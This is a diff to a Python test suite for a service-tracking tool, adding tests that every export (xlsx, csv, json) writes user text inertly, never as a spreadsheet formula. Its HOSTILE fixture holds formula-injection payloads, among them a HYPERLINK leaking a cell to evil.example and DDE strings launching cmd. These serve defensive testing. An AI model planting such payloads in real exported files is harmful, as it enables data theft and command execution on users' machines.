@@ -2,21 +2,28 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 import subprocess
-from datetime import date
+import zipfile
+from datetime import date, timedelta
 from pathlib import Path
 
 import openpyxl
 import pytest
+from openpyxl.cell.cell import Cell
 
 from bot.cli.demo import load_demo
 from bot.cli.main import main
-from bot.storage.store import Store
+from bot.files.inert import FORMULA_STARTS, append_inert, csv_value, looks_like_a_formula
+from bot.storage.store import Repositories, Store
+from ehcp_rules import ActionProgress, AdviceRequestRecord, ExceptionReason, Rating
 from tests.fakes import FakeClock
 
 TODAY = date(2026, 11, 23)
+PERSON = "3f2b1c4e-8a9d-4e7f-9b1a-2c3d4e5f6a7b"
 
 
 @pytest.fixture
@@ -146,3 +153,165 @@ def test_an_unknown_export_format_is_refused(
 ) -> None:
     assert main(["export", "summary", "--db", demo, "--out", str(tmp_path / "x.pdf")]) == 2
     assert "give a file ending in .xlsx, .csv or .json" in capsys.readouterr().err
+
+
+# --- Safe output: people's text in an export is never a formula --------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?d="&A1,"Sign in again")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1;=2+2",
+)
+"""Text as an attacker would type it; each passes the privacy screen (it holds no NHS number)."""
+
+
+def _hostile_world(r: Repositories) -> None:
+    """Every user-text field filled with hostile text, through the repositories (the same calls
+    the dialogs, the importer and the command line make): service names and providers, an
+    assessment's comments, its action owners, requests' case references, delay reasons and
+    exception narratives."""
+    services = [r.services.add(name, provider=HOSTILE[0], actor="test") for name in HOSTILE]
+    first = services[0]
+    assessment, _ = r.assessments.start_or_resume(first.id, edition="east-of-england", actor=PERSON)
+    for number in range(1, 24):
+        rating = Rating.NO if number == 4 else Rating.EMERGING if number == 6 else Rating.YES
+        comment = HOSTILE[number % len(HOSTILE)]
+        r.assessments.record_answer(assessment.id, number, rating, comment, actor=PERSON)
+    r.assessments.submit(assessment.id, actor=PERSON)
+    for at, action in enumerate(r.assessments.actions(assessment.id)):
+        r.assessments.update_action(
+            assessment.id,
+            action.question,
+            owner=HOSTILE[at],
+            target_date=date(2027, 1, 31),
+            progress=ActionProgress.ON_TRACK,
+            actor=PERSON,
+        )
+    for service in services:
+        for at, text in enumerate(HOSTILE):
+            r.requests.add(_hostile_request(service.id, at, text), actor=PERSON)
+
+
+def _hostile_request(service_id: int, at: int, text: str) -> AdviceRequestRecord:
+    received = date(2026, 7, 1 + 5 * at)  # due in the summary's quarter
+    fields: dict[str, object] = {
+        "case_ref": f"{text[:30]}{at}",
+        "service_id": service_id,
+        "received_on": received,
+    }
+    if at % 2:
+        fields |= {"returned_on": received + timedelta(days=20 + 20 * at)}
+    else:
+        fields |= {"exception_reason": ExceptionReason.MISSED_APPOINTMENT}
+        fields |= {"exception_narrative": text, "delay_reason": text}
+    return AdviceRequestRecord.model_validate(fields)
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> str:
+    with Store.open(tmp_path / "hostile.db", clock=FakeClock()) as store:
+        store.call(_hostile_world)
+    return str(tmp_path / "hostile.db")
+
+
+def _export(db: str, out: Path, *what: str) -> None:
+    assert main(["export", *what, "--db", db, "--out", str(out)]) == 0
+
+
+def _cells(path: Path) -> list[Cell]:
+    book = openpyxl.load_workbook(path)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def _assert_inert(path: Path) -> list[Cell]:
+    cells = _cells(path)
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert all(c.quotePrefix for c in cells if looks_like_a_formula(c.value))
+    with zipfile.ZipFile(path) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)
+    return cells
+
+
+def test_the_assessment_workbook_writes_hostile_comments_and_owners_as_text(
+    hostile: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "assessment.xlsx"
+
+    _export(hostile, out, "assessment", "--service", HOSTILE[0])
+
+    cells = _assert_inert(out)
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert set(HOSTILE) <= texts  # comments and owners kept exactly, as text
+    book = openpyxl.load_workbook(out)
+    plan = [[c.value for c in row] for row in book["Action plan"].iter_rows()]
+    assert [row[4] for row in plan[1:]] == [HOSTILE[0], HOSTILE[1]]
+    assert all(c.data_type == "n" for c in book["Self-assessment"]["A"][5:28])  # numbers stay
+
+
+def test_the_summary_workbook_writes_hostile_service_names_as_text_and_numbers_as_numbers(
+    hostile: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "summary.xlsx"
+
+    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")
+
+    cells = _assert_inert(out)
+    assert set(HOSTILE) <= {c.value for c in cells}
+    services = openpyxl.load_workbook(out)["Services"]
+    header = [c.value for c in services[1]]
+    for row in services.iter_rows(min_row=2):
+        for column in ("due", "on_time", "percent_on_time", "percent_on_time_excluding_exceptions"):
+            assert row[header.index(column)].data_type == "n", column
+        assert row[header.index("percent_on_time")].value == 20
+
+
+def test_the_summary_csv_quotes_hostile_text_and_leaves_numbers_bare(
+    hostile: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "summary.csv"
+
+    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")
+
+    text = out.read_text(encoding="utf-8")
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == len(HOSTILE) + 1
+    assert not [field for row in rows for field in row if field.startswith(FORMULA_STARTS)]
+    assert sorted(row[0] for row in rows[:-1]) == sorted(f"'{name}" for name in HOSTILE)
+    body = text.split("\n", 1)[1]  # after the header (column names, bare)
+    typed = [
+        list[object](row)
+        for row in csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC)
+    ]
+    # text quoted, numbers bare: a reader that types the fields gets the numbers as numbers
+    assert [(row[header.index("due")], row[header.index("percent_on_time")]) for row in typed] == [
+        (5.0, 20.0)
+    ] * len(HOSTILE) + [(25.0, 20.0)]
+    assert all(isinstance(row[0], str) for row in typed)
+
+
+def test_the_summary_json_keeps_the_text_exactly(hostile: str, tmp_path: Path) -> None:
+    out = tmp_path / "summary.json"
+
+    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")
+
+    names = {s["name"] for s in json.loads(out.read_text(encoding="utf-8"))["services"]}
+    assert names == set(HOSTILE)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\n=1"])
+def test_text_that_starts_like_a_formula_is_written_inertly_in_either_format(text: str) -> None:
+    # (the screen removes a leading tab or line break before text is kept: tested here alone)
+    book = openpyxl.Workbook()
+    append_inert(book.active, [text, "plain", 3, -2.5])
+    saved = io.BytesIO()
+    book.save(saved)
+    first, plain, three, negative = openpyxl.load_workbook(saved).active[1]
+
+    assert (first.data_type, first.quotePrefix) == ("s", True)
+    assert (plain.data_type, plain.quotePrefix) == ("s", False)
+    assert (three.value, negative.value) == (3, -2.5)
+    assert csv_value(text) == f"'{text}" and csv_value("plain") == "plain"
+    assert csv_value(-2.5) == -2.5
